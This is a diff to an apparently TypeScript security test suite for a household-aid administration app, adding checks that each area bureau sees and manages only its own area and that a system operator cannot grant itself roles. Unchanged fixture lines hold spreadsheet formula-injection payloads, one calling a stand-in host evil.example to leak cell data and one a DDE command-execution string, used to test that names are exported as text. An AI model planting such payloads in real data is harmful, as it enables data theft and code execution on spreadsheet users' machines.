@@ -3,7 +3,7 @@
 import { createHash, randomUUID } from 'node:crypto';
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { households, institutions, memberships, pairingRequests, rateLimits, sessions, users, villages } from '../../db/schema.ts';
+import { areas, households, institutions, memberships, pairingRequests, rateLimits, sessions, users, villages } from '../../db/schema.ts';
 import { startSession } from '../../src/lib/server/auth/session.ts';
 import { loadActor } from '../../src/lib/server/auth/scope.ts';
 import { signUpForShift } from '../../src/lib/signups/signups.server.ts';
@@ -54,6 +54,41 @@ describe('security', () => {
     expect((await qinyuan.get(`/households/${household}`)).status).toBe(403);
   });
 
+  it('each bureau administers its own area: Qinyuan\'s runs Qinyuan without Changchun\'s, and neither sees the other\'s households', async () => {
+    const changchun = new Visitor(site);
+    changchun.cookie = await sessionCookieFor(site.db, 'admin');
+    const qinyuan = new Visitor(site);
+    qinyuan.cookie = await sessionCookieFor(site.db, 'otherAdmin');
+    const sun = site.db.select().from(households).where(eq(households.headName, '孙广森')).get()!.id;
+    const yin = site.db.select().from(households).where(eq(households.headName, '阴永龙')).get()!.id;
+    const hospital = site.db.select().from(institutions).where(eq(institutions.name, '沁源县人民医院')).get()!.id;
+    const county = site.db.select().from(areas).where(eq(areas.name, '沁源县')).get()!.id;
+    expect((await qinyuan.get(`/households/${yin}`)).status).toBe(200);
+    expect((await qinyuan.get(`/households/${sun}`)).status).toBe(403);
+    expect((await changchun.get(`/households/${sun}`)).status).toBe(200);
+    expect((await changchun.get(`/households/${yin}`)).status).toBe(403);
+    expect(await (await changchun.get('/households')).text()).not.toContain('阴永龙');
+    expect((await changchun.get(`/institutions/${hospital}/members`)).status).toBe(403);
+    // Qinyuan's bureau adds an institution and a village in its county, and makes a coordinator there.
+    await qinyuan.post('/admin/institutions?_action=institutions.create', { name: '沁源县中医院', kind: 'hospital', areaId: String(county) });
+    const added = site.db.select().from(institutions).where(eq(institutions.name, '沁源县中医院')).get()!;
+    expect(added.areaId).toBe(county);
+    await qinyuan.post('/villages?_action=places.createVillage', { province: '山西省', city: '长治市', county: '沁源县', township: '法中乡', name: '麻坪村', status: 'poverty_village' });
+    expect(site.db.select().from(villages).where(eq(villages.name, '麻坪村')).get()).toBeDefined();
+    await qinyuan.post('/admin/users?_action=memberships.add', { email: demoEmail('member'), institutionId: String(added.id), role: 'coordinator' });
+    expect(site.db.select().from(memberships).where(eq(memberships.institutionId, added.id)).all().map((m) => m.role)).toEqual(['coordinator']);
+    // Changchun's commission can do none of this in Qinyuan, and is told so beside the field.
+    const outside = await changchun.post('/villages?_action=places.createVillage', { province: '山西省', city: '长治市', county: '沁源县', township: '法中乡', name: '另一村', status: 'poverty_village' });
+    expect(await outside.text()).toContain('该地点不在您管理的区域内');
+    expect(site.db.select().from(villages).where(eq(villages.name, '另一村')).get()).toBeUndefined();
+    expect((await changchun.post('/admin/users?_action=memberships.add', { email: demoEmail('member'), institutionId: String(hospital), role: 'coordinator' })).status).toBe(403);
+    expect((await changchun.post(`/institutions/${added.id}?_action=institutions.update`, { institutionId: String(added.id), name: '改名', kind: 'hospital', areaId: String(county) })).status).toBe(403);
+    // Each bureau's user list holds only the people of its area.
+    const people = await (await qinyuan.get('/admin/users')).text();
+    expect(people).toContain('黄向东');
+    expect(people).not.toContain('周毅刚');
+  });
+
   it('writes a name that a spreadsheet would run as a formula as text, in the roster and the tallies', async () => {
     const member = site.db.select().from(users).where(eq(users.email, demoEmail('member'))).get()!;
     site.db.update(users).set({ name: '=HYPERLINK("http://evil.example/?"&A2,"点此")' }).where(eq(users.id, member.id)).run();
@@ -74,22 +109,24 @@ describe('security', () => {
     site.db.update(institutions).set({ name: '长春市中心医院' }).where(eq(institutions.name, "=1+cmd|' /C calc'!A0")).run();
   });
 
-  it('a system operator runs the mail log and the data interface, and reads no institution’s data', async () => {
+  it('a system operator runs the mail log and the data interface and shapes areas, but reads no institution’s data', async () => {
     const commission = site.db.select().from(institutions).where(eq(institutions.name, '长春市卫生健康委员会')).get()!;
-    const operatorId = randomUUID();
-    site.db.insert(users).values({ id: operatorId, email: 'operator@yizhen.example', name: '运维 孙工', passwordHash: 'x', emailVerifiedAt: 1, createdAt: 1 }).run();
-    site.db.insert(memberships).values({ userId: operatorId, institutionId: commission.id, role: 'operator', createdAt: 1 }).run();
     const operator = new Visitor(site);
-    operator.cookie = `yizhen_session=${(await startSession(site.db, operatorId)).value}`;
+    operator.cookie = await sessionCookieFor(site.db, 'operator');
     const household = site.db.select().from(households).where(eq(households.headName, '孙广森')).get()!.id;
     const home = await (await operator.get('/')).text();
     expect(home).toContain('href="/admin/mail"');
-    expect(home).not.toContain(`href="/institutions/${commission.id}"`);
-    for (const path of ['/admin/mail', '/admin/api-tokens']) expect((await operator.get(path)).status, path).toBe(200);
-    for (const path of [`/households/${household}`, '/admin/audit', '/admin/users', '/admin/institutions', `/institutions/${commission.id}`, `/institutions/${commission.id}/members`, '/tallies', '/admin/pairing-requests']) {
+    expect(home).not.toContain('href="/admin/audit"');
+    for (const path of ['/admin/mail', '/admin/api-tokens', '/admin/users', '/admin/institutions', `/institutions/${commission.id}`]) expect((await operator.get(path)).status, path).toBe(200);
+    for (const path of [`/households/${household}`, '/admin/audit', `/institutions/${commission.id}/members`, `/institutions/${commission.id}/pairings`, '/tallies', '/admin/pairing-requests']) {
       expect((await operator.get(path)).status, path).toBe(403);
     }
     expect(await (await operator.get('/households')).text()).not.toContain('孙广森');
+    // It may make a bureau's administrator, but gives itself nothing.
+    const refused = await operator.post('/admin/users?_action=memberships.add', { email: demoEmail('operator'), institutionId: String(commission.id), role: 'admin' });
+    expect(refused.status).toBe(400);
+    expect(await refused.text()).toContain('不能给自己授予角色');
+    expect(site.db.select().from(memberships).where(eq(memberships.role, 'admin')).all().map((m) => m.userId)).not.toContain(site.db.select().from(users).where(eq(users.email, demoEmail('operator'))).get()!.id);
   });
 
   it('keeps only the hash of a session id, so a copy of the database opens no session', async () => {
